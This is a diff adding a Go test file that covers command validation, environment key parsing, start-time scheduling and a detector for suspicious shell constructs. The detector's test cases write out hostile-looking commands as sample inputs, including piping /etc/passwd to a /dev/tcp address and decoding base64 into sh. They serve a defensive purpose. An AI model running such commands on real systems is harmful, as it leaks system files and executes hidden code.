@@ -0,0 +1,101 @@
+package main
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestValidateCommand(t *testing.T) {
+	testCases := []struct {
+		name    string   // test case name
+		command string   // command run in a shell
+		args    []string // argv run without a shell
+		maxLen  int      // maximum length of the command
+		nilErr  bool     // nil error from validateCommand?
+	}{
+		{name: "command", command: "echo 123", maxLen: 64, nilErr: true},
+		{name: "args", args: []string{"echo", "123"}, maxLen: 64, nilErr: true},
+		{name: "empty", maxLen: 64, nilErr: false},
+		{name: "command and args", command: "echo 123", args: []string{"echo"}, maxLen: 64, nilErr: false},
+		{name: "command at limit", command: strings.Repeat("a", 64), maxLen: 64, nilErr: true},
+		{name: "command over limit", command: strings.Repeat("a", 65), maxLen: 64, nilErr: false},
+		{name: "args at limit", args: []string{strings.Repeat("a", 32), strings.Repeat("b", 32)}, maxLen: 64, nilErr: true},
+		{name: "args over limit", args: []string{strings.Repeat("a", 32), strings.Repeat("b", 33)}, maxLen: 64, nilErr: false},
+		{name: "unlimited", command: strings.Repeat("a", 1024*1024), maxLen: 0, nilErr: true},
+		{name: "unlimited empty", maxLen: 0, nilErr: false},
+	}
+	for _, tc := range testCases {
+		tc := tc
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+
+			err := validateCommand(tc.command, tc.args, tc.maxLen)
+			assert.Equal(t, tc.nilErr, err == nil, "%v", err)
+		})
+	}
+}
+
+func TestEnvKeys(t *testing.T) {
+	keys := envKeys([]string{"FOO=bar", "TOKEN=a=b", "EMPTY="})
+	assert.Equal(t, []string{"FOO", "TOKEN", "EMPTY"}, keys)
+}
+
+func TestFindSuspicious(t *testing.T) {
+	testCases := []struct {
+		name    string   // test case name
+		command string   // command to check
+		found   []string // suspicious constructs found
+	}{
+		{name: "plain command", command: "make test", found: []string{}},
+		{name: "command substitution", command: "echo $(id)", found: []string{"$("}},
+		{name: "backticks", command: "echo `id`", found: []string{"`"}},
+		{name: "eval", command: "eval \"$CMD\"", found: []string{"eval "}},
+		{name: "network redirection", command: "cat /etc/passwd > /dev/tcp/10.0.0.1/80", found: []string{"/dev/tcp"}},
+		{name: "base64", command: "echo ZWNobwo= | base64 -d | sh", found: []string{"base64 -d"}},
+		{name: "multiple", command: "eval $(echo aWQK | base64 -d) > /dev/udp/10.0.0.1/53", found: []string{"$(", "eval ", "/dev/udp", "base64 -d"}},
+		{name: "variable isn't substitution", command: "echo $HOME", found: []string{}},
+	}
+	for _, tc := range testCases {
+		tc := tc
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+
+			assert.Equal(t, tc.found, findSuspicious(tc.command))
+		})
+	}
+}
+
+func TestStartTime(t *testing.T) {
+	now := time.Unix(1000, 0)
+	nowMs := now.UnixNano() / int64(time.Millisecond)
+
+	testCases := []struct {
+		name    string    // test case name
+		afterMs int64     // delay in milliseconds
+		atMs    int64     // time in milliseconds since the epoch
+		startAt time.Time // time to launch the job at
+		nilErr  bool      // nil error from startTime?
+	}{
+		{name: "right away", nilErr: true},
+		{name: "delay", afterMs: 1500, startAt: now.Add(1500 * time.Millisecond), nilErr: true},
+		{name: "time", atMs: nowMs + 2000, startAt: now.Add(2 * time.Second), nilErr: true},
+		{name: "time passed", atMs: nowMs - 2000, nilErr: true},
+		{name: "time is now", atMs: nowMs, nilErr: true},
+		{name: "negative delay", afterMs: -1, nilErr: false},
+		{name: "negative time", atMs: -1, nilErr: false},
+		{name: "delay and time", afterMs: 1000, atMs: nowMs + 1000, nilErr: false},
+	}
+	for _, tc := range testCases {
+		tc := tc
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+
+			startAt, err := startTime(tc.afterMs, tc.atMs, now)
+			assert.Equal(t, tc.nilErr, err == nil, "%v", err)
+			assert.True(t, tc.startAt.Equal(startAt), "expected %s, got %s", tc.startAt, startAt)
+		})
+	}
+}